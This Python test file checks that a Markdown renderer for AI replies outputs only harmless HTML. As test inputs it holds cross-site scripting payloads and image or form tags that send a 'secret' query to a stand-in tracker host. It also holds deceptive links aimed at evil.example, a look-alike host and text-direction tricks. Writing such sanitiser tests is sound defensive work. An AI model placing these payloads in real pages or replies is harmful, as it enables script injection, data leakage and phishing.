"""A reply's Markdown becomes HTML that can do nothing but be read."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from web.markdown import render

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src="https://tracker.example/?q=secret" onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](//tracker.example/x)",
    "[click](/api/me)",
    "![memory](https://tracker.example/?q=secret)",
    "<a href='https://tracker.example' onclick='alert(1)' style='position:fixed'>x</a>",
    '[click](https://tracker.example "x" onmouseover=alert(1))',
    "<svg onload=alert(1)>",
    "<form action=https://tracker.example><input name=x></form>",
    "`<img src=x>` and <style>*{display:none}</style>",
    "\ue0001\ue001 [1]",
]
TAG = re.compile(r"<(/?)([a-z0-9]+)([^>]*)>")
ALLOWED = set("a blockquote br code div em h3 h4 h5 h6 hr li ol p pre s span strong".split()) | set(
    "table tbody td th thead tr ul".split()
)
ATTRIBUTE = re.compile(r'([a-z-]+)="([^"]*)"')
ATTRIBUTES = {"href", "title", "target", "rel", "class", "start", "tabindex", "role", "aria-label"}


def assert_harmless(html: str) -> None:
    """Only known tags and attributes, and links that lead outside and say so."""
    for _, tag, attributes in TAG.findall(html):
        assert tag in ALLOWED
        for name, value in ATTRIBUTE.findall(attributes):
            assert name in ATTRIBUTES
            if name == "href":
                assert value.startswith(("https://", "http://", "mailto:", "#"))


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_a_reply_runs_or_loads(text: str) -> None:
    """Scripts, handlers, styles, images and unsafe links become text or vanish."""
    html = str(render(text, {1: "Lives in York"}, "use-").html)
    assert_harmless(html)
    assert "<img" not in html
    assert "javascript:" not in re.sub(r">[^<]*<", "><", html)


@given(st.text(alphabet=st.sampled_from("<>[]()!`*_#|-:/\"'&=\n ahrefjstponclik.1\ue000\ue001"), max_size=80))
def test_no_text_breaks_out(text: str) -> None:
    """Whatever a model writes, the result is harmless."""
    assert_harmless(str(render(text, {1: '"><b onclick=x>'}, "use-").html))


def test_a_link_says_where_it_leads() -> None:
    """The host stands beside the link's words, and the link opens apart, telling nothing of where it was."""
    html = str(render("Read [the guide](https://docs.example.org/x?y=1).").html)
    assert '<span class="host">(docs.example.org)</span>' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html


def test_a_link_whose_words_are_its_address_is_not_told_twice() -> None:
    """An address in angle brackets shows its host already."""
    assert "host" not in str(render("<https://example.org/x>").html)


def test_a_look_alike_host_shows_as_it_is_asked_for() -> None:
    """A host in other letters is shown in the form that the network uses."""
    assert "xn--" in str(render("[bank](https://\u0440\u0430\u0443\u0440\u0430l.example/)").html)


def test_markers_count_in_reading_order() -> None:
    """The reply marks memories by their number in the prompt; the page counts anew as one reads."""
    memories = {1: "Likes short emails", 2: "Is vegetarian", 3: "Lives in York"}
    rendered = render("A lasagne [2] for two [1].", memories, "use-")
    assert rendered.order == (2, 1, 3)
    assert re.findall(r'href="#(use-\d)"[^>]*>(\d)<', str(rendered.html)) == [("use-1", "1"), ("use-2", "2")]
    assert 'aria-label="Memory 1: Is vegetarian"' in str(rendered.html)


def test_a_number_in_brackets_that_marks_nothing_stays() -> None:
    """Only the numbers of used memories are markers; code keeps its brackets."""
    html = str(render("See [7] and `x[1]`.", {1: "Is vegetarian"}, "use-").html)
    assert "[7]" in html
    assert "x[1]" in html
    assert "marker" not in html


def test_text_to_be_taken_elsewhere_stands_apart() -> None:
    """Quotes and code are drafts, and a wide table scrolls by itself, by keyboard too."""
    html = str(render("> Hi Priya\n\n```\nx = 1\n```\n\n|a|b|\n|-|-|\n|1|2|").html)
    assert '<blockquote class="draft">' in html
    assert '<div class="draft"><pre tabindex="0">' in html
    assert re.search(r'<div (?=[^>]*tabindex="0")[^>]*class="scroller"|<div class="scroller" tabindex="0"', html)


@pytest.mark.parametrize(
    "text",
    [
        "[bank.example](https://evil.example/)",
        "[evil.example.bank.example](https://evil.example/)",
        "[bank.example, not evil.example](https://evil.example/)",
        "[bank.example@evil.example](https://evil.example/)",
        r"[https://\[evil.example](https://evil.example/)",
    ],
)
def test_a_links_words_cannot_hide_its_host(text: str) -> None:
    """Words that only mention the host, among others, do not stand for it."""
    assert '<span class="host">(evil.example)</span>' in str(render(text).html)


def test_mail_shows_its_address_once() -> None:
    """As with any other link whose words are its address."""
    assert "host" not in str(render("<ana@example.org>").html)


def test_the_reading_direction_cannot_be_turned_around() -> None:
    """A name or a host reads as it is spelt."""
    html = str(render("See \u202egro.elpmaxe\u202c and \u2066this\u2069.").html)
    assert "gro.elpmaxe and this" in html
